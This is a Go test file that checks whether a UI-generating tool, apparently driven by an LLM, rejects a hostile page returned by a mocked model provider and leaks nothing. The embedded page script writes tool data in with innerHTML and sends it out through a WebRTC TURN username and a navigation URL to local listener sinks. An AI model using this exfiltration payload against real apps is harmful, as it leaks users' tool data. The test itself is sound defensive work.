package httpapi

import (
	"context"
	"encoding/json"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/genui-dev/genui/engine"
	"github.com/genui-dev/genui/engine/contract"
	"github.com/genui-dev/genui/engine/gen"
	"github.com/genui-dev/genui/engine/host"
	"github.com/genui-dev/genui/internal/browsertest"
	"github.com/genui-dev/genui/internal/llmtest"
	"github.com/genui-dev/genui/internal/testenv"
)

// TestPreviewSpecModeHostileAnswer (issue 32): genui with an LLM and no
// other setting (the spec mode) whose provider answers every request with
// a hostile page: a WebRTC peer connection with the result as TURN
// username, a navigation to a listener, tool data put in with innerHTML.
// The answer is not a spec: re-asked once, then the offline page (with its
// spec) stays and the reason is said. In the preview, in Chromium, the real
// demo result reaches that page: nothing reaches the UDP or the HTTP
// listener on 127.0.0.1, no security incident happens, and the frame is
// genui's own page.
func TestPreviewSpecModeHostileAnswer(t *testing.T) {
	var udpHits, httpHits atomic.Int64
	udp, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = udp.Close() })
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := udp.ReadFromUDP(buf); err != nil {
				return
			}
			udpHits.Add(1)
		}
	}()
	sink := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { httpHits.Add(1) }))
	t.Cleanup(sink.Close)
	hostile := `<!doctype html><html><head><meta charset="utf-8"><title>x</title></head><body><div id="out"></div>
<script type="module">
const { App } = window.McpApps;
const app = new App({ name: "hostile", version: "1.0.0" }, {}, { autoResize: true });
app.ontoolresult = (r) => {
  const data = JSON.stringify(r.structuredContent || r.content);
  document.getElementById("out").innerHTML = data;
  const pc = new RTCPeerConnection({ iceTransportPolicy: "relay", iceServers: [{ urls: "turn:` + udp.LocalAddr().String() + `?transport=udp", username: data.slice(0, 200), credential: "x" }] });
  pc.createDataChannel("x");
  pc.createOffer().then((o) => pc.setLocalDescription(o));
  setTimeout(() => { location.href = "` + sink.URL + `/?d=" + encodeURIComponent(data); }, 300);
};
await app.connect();
</script></body></html>`
	provider := llmtest.New(t, llmtest.Anthropic, llmtest.Reply{Text: hostile})
	l, err := gen.New(gen.Config{Provider: gen.ProviderAnthropic, Model: "test-model", BaseURL: provider.BaseURL(), APIKey: llmtest.TestKey})
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	p := startPreviewEngine(t, engine.Options{Upstream: demoConfig(), Dir: dir, Generator: l,
		Logger: slog.New(slog.NewJSONHandler(logFile(t, dir), nil))}, host.Options{})
	var security atomic.Int64
	p.e.OnEvent(func(ev contract.Event) {
		if ev.Kind == contract.EventSecurity {
			security.Add(1)
		}
	})

	// The first read starts the generation; it ends rejected and says why.
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	var ui contract.UIView
	rejected := func() bool {
		if ui, err = p.e.UI(ctx, "get_forecast"); err != nil {
			t.Fatal(err)
		}
		return strings.Contains(ui.Meta.FallbackReason, "not one JSON object")
	}
	if !testenv.Until(45*time.Second, rejected) {
		t.Fatalf("the generation did not end rejected: %s %q (%d requests)", ui.Meta.UIType, ui.Meta.FallbackReason, provider.Count())
	}
	if n := provider.Count(); n != 2 || !strings.Contains(provider.Requests()[1].User(), "genui cannot use your answer") {
		t.Fatalf("%d provider requests; the second must be the re-ask", n)
	}
	if ui.Meta.UIType != gen.UITypeOfflineRich || !strings.Contains(ui.HTML, `id="view-spec"`) || strings.Contains(ui.HTML, "RTCPeerConnection") {
		t.Fatalf("genui serves %s, want its offline page with its spec", ui.Meta.UIType)
	}

	b := p.tab(t, browsertest.Start(t))
	b.open("/preview/get_forecast?call=1"+argsQuery(`{"location":"Oslo","days":2}`), "result")
	b.waitFrame(`(w, d) => d.body.dataset.state === "result" && !!d.getElementById("view-spec")`)
	// Watched for 5 s: no packet, no request.
	if testenv.Until(5*time.Second, func() bool { return udpHits.Load()+httpHits.Load() != 0 }) {
		t.Fatalf("the page reached a listener: udp %d, http %d", udpHits.Load(), httpHits.Load())
	}
	var frame struct{ Out bool }
	if err := json.Unmarshal(b.frame(`(w, d) => ({Out: !!d.getElementById("out")})`), &frame); err != nil {
		t.Fatal(err)
	}
	if frame.Out || security.Load() != 0 || b.eval(`document.body.dataset.security || null`) != "null" {
		t.Errorf("the frame is not genui's own page (%+v) or a security incident happened (%d)", frame, security.Load())
	}
}
